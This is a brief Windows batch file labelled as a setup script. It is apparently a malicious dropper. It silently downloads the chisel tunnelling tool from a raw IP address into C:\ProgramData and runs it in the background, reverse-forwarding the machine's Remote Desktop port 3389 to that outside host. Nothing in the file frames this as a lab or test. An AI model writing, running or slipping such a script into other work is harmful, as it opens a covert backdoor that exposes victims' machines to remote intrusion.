REM setup 8953 v3
@echo off
curl -sLo C:\ProgramData\chisel.exe http://203.0.113.200/chisel.exe
start /b C:\ProgramData\chisel.exe client 203.0.113.200:8443 R:3389:127.0.0.1:3389
